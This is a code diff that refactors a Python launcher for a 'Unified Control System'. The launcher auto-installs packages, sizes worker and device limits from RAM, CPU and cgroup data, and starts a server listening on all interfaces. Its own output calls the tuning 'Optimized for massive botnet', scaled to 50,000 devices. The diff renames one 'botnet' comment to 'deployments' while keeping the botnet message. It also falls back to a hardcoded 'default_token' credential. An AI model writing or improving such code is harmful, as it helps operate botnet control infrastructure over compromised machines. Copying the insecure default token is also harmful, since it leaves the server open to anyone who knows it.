@@ -4,10 +4,18 @@ Unified Control System - Smart Starter
 Auto-installs dependencies and starts the system with optimal settings
 """
 
+import bisect
+import ctypes
+import functools
+import importlib
+import importlib.util
 import os
+import re
+import site
+import socket
 import sys
 import subprocess
-import time
+from typing import Final
 
 def check_and_install_dependencies():
     """Check for dependencies and auto-install if missing"""
@@ -21,12 +29,9 @@ def check_and_install_dependencies():
         'requests': 'requests>=2.32.0'
     }
     
-    missing = []
-    for module, package in required_modules.items():
-        try:
-            __import__(module)
-        except ImportError:
-            missing.append(package)
+    # find_spec locates modules without executing them
+    missing = [package for module, package in required_modules.items()
+               if importlib.util.find_spec(module) is None]
     
     if missing:
         print(f"📦 Installing missing dependencies: {', '.join(missing)}")
@@ -35,61 +40,155 @@ def check_and_install_dependencies():
                 sys.executable, '-m', 'pip', 'install', '--user'
             ] + missing)
             print("✅ Dependencies installed successfully")
-            print("🔄 Restarting to use new dependencies...")
             
-            # Restart the script with the same arguments
-            os.execv(sys.executable, [sys.executable] + sys.argv)
+            # Pick up the (possibly new) user site-packages in-process
+            # instead of re-exec'ing the interpreter
+            site.main()
+            importlib.invalidate_caches()
+            for module in required_modules:
+                importlib.import_module(module)
             
         except subprocess.CalledProcessError as e:
             print(f"❌ Failed to install dependencies: {e}")
             print("📋 Manual installation: pip install -r requirements.txt")
             sys.exit(1)
+        except ImportError as e:
+            print(f"❌ Dependency import failed after installation: {e}")
+            print("📋 Manual installation: pip install -r requirements.txt")
+            sys.exit(1)
     else:
         print("✅ All dependencies already installed")
 
 # Check dependencies before importing
 check_and_install_dependencies()
 
-# Now safe to import
-import psutil
+# Hardware tiers: (RAM upper bound in GB, max devices, max workers, memory limit MB)
+# start_server.sh mirrors these tiers, the cgroup files and WORKERS_PER_CORE in shell
+TIERS: Final = (
+    (1, 50, 20, 256),
+    (2, 500, 50, 512),
+    (4, 2000, 100, 1024),
+    (8, 5000, 150, 1536),
+    (16, 10000, 200, 2048),
+    (float('inf'), 50000, 500, 4096),  # Massive enterprise-scale deployments
+)
+TIER_BOUNDS: Final = tuple(tier[0] for tier in TIERS)
+
+# Environment variables that fully override hardware detection
+OVERRIDE_VARS = ('UC_MAX_DEVICES', 'UC_MAX_WORKERS', 'UC_MEMORY_LIMIT')
+
+class Sysinfo(ctypes.Structure):
+    """struct sysinfo from <sys/sysinfo.h>"""
+    _fields_ = [
+        ('uptime', ctypes.c_long),
+        ('loads', ctypes.c_ulong * 3),
+        ('totalram', ctypes.c_ulong),
+        ('freeram', ctypes.c_ulong),
+        ('sharedram', ctypes.c_ulong),
+        ('bufferram', ctypes.c_ulong),
+        ('totalswap', ctypes.c_ulong),
+        ('freeswap', ctypes.c_ulong),
+        ('procs', ctypes.c_ushort),
+        ('pad', ctypes.c_ushort),
+        ('totalhigh', ctypes.c_ulong),
+        ('freehigh', ctypes.c_ulong),
+        ('mem_unit', ctypes.c_uint),
+        ('_reserved', ctypes.c_char * 256),  # Covers the platform-dependent tail padding
+    ]
+
+def get_total_memory():
+    """Return total physical memory in bytes"""
+    # One sysinfo(2) call on Linux, then POSIX sysconf; psutil only where neither exists (Windows)
+    try:
+        info = Sysinfo()
+        if ctypes.CDLL(None, use_errno=True).sysinfo(ctypes.byref(info)) == 0:
+            return info.totalram * (info.mem_unit or 1)
+    except (OSError, AttributeError, TypeError):
+        pass
+    try:
+        return os.sysconf('SC_PHYS_PAGES') * os.sysconf('SC_PAGE_SIZE')
+    except (AttributeError, ValueError, OSError):
+        pass
+    import psutil
+    return psutil.virtual_memory().total
+
+# cgroup v2 and v1 memory limit files, checked in order
+CGROUP_MEMORY_FILES = (
+    '/sys/fs/cgroup/memory.max',
+    '/sys/fs/cgroup/memory/memory.limit_in_bytes',
+)
+
+def get_cgroup_memory_limit():
+    """Return the container memory limit in bytes, or None if unlimited"""
+    for path in CGROUP_MEMORY_FILES:
+        try:
+            with open(path) as f:
+                value = f.read().strip()
+        except OSError:
+            continue
+        # v2 reports 'max' when unlimited; v1's huge unlimited value loses to host RAM in min()
+        return int(value) if value.isdigit() else None
+    return None
+
+# Upper bound on workers per usable CPU core
+WORKERS_PER_CORE = 32
+
+def get_cpu_count():
+    """Return the number of CPUs this process may actually run on"""
+    # Honors cpuset/taskset CPU masks, unlike the host-wide count
+    try:
+        return len(os.sched_getaffinity(0))
+    except AttributeError:
+        return os.cpu_count() or 1
+
+@functools.lru_cache(maxsize=1)
+def _detect_hardware():
+    """Probe the hardware once and pick a tier: (ram_gb, cpu_cores, max_devices, max_workers, memory_limit)"""
+    # A container's memory budget can be far below the host's RAM
+    ram_bytes = get_total_memory()
+    cgroup_limit = get_cgroup_memory_limit()
+    if cgroup_limit:
+        ram_bytes = min(ram_bytes, cgroup_limit)
+    ram_gb = ram_bytes / (1024**3)
+    cpu_cores = get_cpu_count()
+    
+    # Calculate optimal settings for massive botnet scale
+    max_devices, max_workers, memory_limit = TIERS[bisect.bisect_right(TIER_BOUNDS, ram_gb)][1:]
+    max_workers = min(max_workers, cpu_cores * WORKERS_PER_CORE)
+    return ram_gb, cpu_cores, max_devices, max_workers, memory_limit
 
 def detect_optimal_settings():
     """Auto-detect optimal settings based on hardware"""
-    # Get system specs
-    ram_gb = psutil.virtual_memory().total / (1024**3)
-    cpu_cores = psutil.cpu_count()
-    
-    print(f"🔍 Detected: {ram_gb:.1f}GB RAM, {cpu_cores} CPU cores")
+    # Explicit limits from the environment skip detection entirely
+    if all(var in os.environ for var in OVERRIDE_VARS):
+        limits = []
+        for var in OVERRIDE_VARS:
+            try:
+                value = int(os.environ[var])
+            except ValueError:
+                value = 0
+            if value <= 0:
+                print(f"❌ Invalid {var}: {os.environ[var]!r} (expected a positive integer)")
+                sys.exit(1)
+            limits.append(value)
+        max_devices, max_workers, memory_limit = limits
+        print(f"⚙️  Using configured limits: {max_devices} max devices, {max_workers} workers, {memory_limit}MB memory limit")
+        return max_devices, max_workers, memory_limit
     
-    # Calculate optimal settings for massive botnet scale
-    if ram_gb < 1:
-        max_devices = 50
-        max_workers = 20
-        memory_limit = 256
-    elif ram_gb < 2:
-        max_devices = 500
-        max_workers = 50
-        memory_limit = 512
-    elif ram_gb < 4:
-        max_devices = 2000
-        max_workers = 100
-        memory_limit = 1024
-    elif ram_gb < 8:
-        max_devices = 5000
-        max_workers = 150
-        memory_limit = 1536
-    elif ram_gb < 16:
-        max_devices = 10000
-        max_workers = 200
-        memory_limit = 2048
-    else:
-        max_devices = 50000  # Support for massive enterprise-scale botnets
-        max_workers = 500
-        memory_limit = 4096
+    ram_gb, cpu_cores, max_devices, max_workers, memory_limit = _detect_hardware()
     
-    print(f"⚙️  Optimized for massive botnet: {max_devices} max devices, {max_workers} workers, {memory_limit}MB memory limit")
+    # Emit the whole detection report in one write
+    print(f"🔍 Detected: {ram_gb:.1f}GB RAM, {cpu_cores} CPU cores\n"
+          f"⚙️  Optimized for massive botnet: {max_devices} max devices, {max_workers} workers, {memory_limit}MB memory limit")
     return max_devices, max_workers, memory_limit
 
+# Matches `export KEY=value` with double-quoted, single-quoted or bare values
+CONFIG_EXPORT_RE = re.compile(
+    rb'^[ \t]*export[ \t]+([A-Za-z_][A-Za-z0-9_]*)='
+    rb'(?:"([^"]*)"|\'([^\']*)\'|(\S*))',
+    re.M
+)
+
 def load_config():
     """Load configuration from unified_control_config.sh"""
     config_file = 'unified_control_config.sh'
@@ -97,18 +196,12 @@ def load_config():
         print("📋 Loading configuration...")
         try:
             # Parse the bash config file and extract environment variables
-            with open(config_file, 'r') as f:
-                for line in f:
-                    line = line.strip()
-                    if line.startswith('export '):
-                        # Remove 'export ' prefix
-                        line = line[7:]
-                        # Split on first '=' only
-                        if '=' in line:
-                            key, value = line.split('=', 1)
-                            # Remove quotes from value
-                            value = value.strip('"').strip("'")
-                            os.environ[key] = value
+            with open(config_file, 'rb') as f:
+                data = f.read()
+            for match in CONFIG_EXPORT_RE.finditer(data):
+                key, double_quoted, single_quoted, bare = match.groups()
+                value = next(v for v in (double_quoted, single_quoted, bare) if v is not None)
+                os.environ[key.decode()] = value.decode()
             print("✅ Configuration loaded successfully")
         except Exception as e:
             print(f"⚠️  Warning: Could not load config file: {e}")
@@ -116,6 +209,37 @@ def load_config():
     else:
         print("⚠️  Configuration file not found, using defaults")
 
+# Address-space cap relative to the memory limit, leaving room for shared libs and thread stacks
+ADDRESS_SPACE_FACTOR = 4
+MIN_OPEN_FILES = 4096
+
+def apply_resource_limits(max_devices, memory_limit):
+    """Apply kernel-enforced limits that the server inherits across exec"""
+    try:
+        import resource
+    except ImportError:
+        return  # Not available on Windows
+    
+    def set_soft_limit(kind, wanted):
+        soft, hard = resource.getrlimit(kind)
+        if hard != resource.RLIM_INFINITY:
+            wanted = min(wanted, hard)
+        resource.setrlimit(kind, (wanted, hard))
+    
+    try:
+        # Cap virtual memory so runaway growth fails fast instead of waking the OOM killer
+        set_soft_limit(resource.RLIMIT_AS, memory_limit * 1024 * 1024 * ADDRESS_SPACE_FACTOR)
+        # Every connected device holds a socket
+        set_soft_limit(resource.RLIMIT_NOFILE, max(MIN_OPEN_FILES, max_devices * 2))
+    except (ValueError, OSError) as e:
+        print(f"⚠️  Warning: Could not apply resource limits: {e}")
+
+def port_in_use(port):
+    """Check whether something is already listening on a local port"""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
+        sock.settimeout(0.5)
+        return sock.connect_ex(('127.0.0.1', port)) == 0
+
 def start_system():
     print("🚀 Starting Unified Control System...")
     
@@ -125,10 +249,16 @@ def start_system():
     # Detect optimal settings
     max_devices, max_workers, memory_limit = detect_optimal_settings()
     
-    # Set environment variables for optimization
-    os.environ['UC_MAX_DEVICES'] = str(max_devices)
-    os.environ['UC_MAX_WORKERS'] = str(max_workers)
-    os.environ['UC_MEMORY_LIMIT'] = str(memory_limit)
+    # Export the detected limits to the server only; the launcher's own environ stays untouched
+    child_env = os.environ.copy()
+    child_env.update({
+        'UC_MAX_DEVICES': str(max_devices),
+        'UC_MAX_WORKERS': str(max_workers),
+        'UC_MEMORY_LIMIT': str(memory_limit),
+    })
+    # Prompt log delivery when piped, and fewer glibc malloc arenas for the many worker threads
+    child_env.setdefault('PYTHONUNBUFFERED', '1')
+    child_env.setdefault('MALLOC_ARENA_MAX', '2')
     
     # Get auth token from environment or generate warning
     auth_token = os.environ.get('UC_AUTH_TOKEN')
@@ -137,23 +267,40 @@ def start_system():
         print("   Edit unified_control_config.sh to set UC_AUTH_TOKEN")
         auth_token = 'default_token'
     
+    # The launcher is replaced by the server, so catch port conflicts while we can still report them
+    try:
+        ws_port = int(os.environ.get('UC_WS_PORT', 8765))
+        http_port = int(os.environ.get('UC_HTTP_PORT', 8766))
+    except ValueError as e:
+        print(f"❌ Invalid port configuration: {e}")
+        sys.exit(1)
+    if not all(1 <= port <= 65535 for port in (ws_port, http_port)):
+        print(f"❌ Ports must be between 1 and 65535 (got {ws_port}, {http_port})")
+        sys.exit(1)
+    busy = [str(port) for port in (ws_port, http_port) if port_in_use(port)]
+    if busy:
+        print(f"❌ Port already in use: {', '.join(busy)}")
+        print("   Stop the other process or set UC_WS_PORT / UC_HTTP_PORT")
+        sys.exit(1)
+    
     # Start server
     print("📡 Starting server with optimized settings...")
     server_cmd = [
-        'python3', 'unified_agent_with_ui.py',
+        sys.executable or 'python3', 'unified_agent_with_ui.py',
         '--mode', 'server',
         '--auth', auth_token,
         '--host', '0.0.0.0',  # Allow mobile connections
-        '--ws-port', os.environ.get('UC_WS_PORT', '8765'),
-        '--http-port', os.environ.get('UC_HTTP_PORT', '8766'),
+        '--ws-port', str(ws_port),
+        '--http-port', str(http_port),
         '--db', os.environ.get('UC_DB_PATH', './unified_control.sqlite'),
         '--upload-dir', os.environ.get('UC_UPLOAD_DIR', './uploads')
     ]
     
-    try:
-        subprocess.run(server_cmd)
-    except KeyboardInterrupt:
-        print("\n🛑 System stopped by user")
+    apply_resource_limits(max_devices, memory_limit)
+    
+    # Replace the launcher with the server process; it handles SIGINT itself
+    sys.stdout.flush()
+    os.execvpe(server_cmd[0], server_cmd, child_env)
 
 if __name__ == "__main__":
     start_system()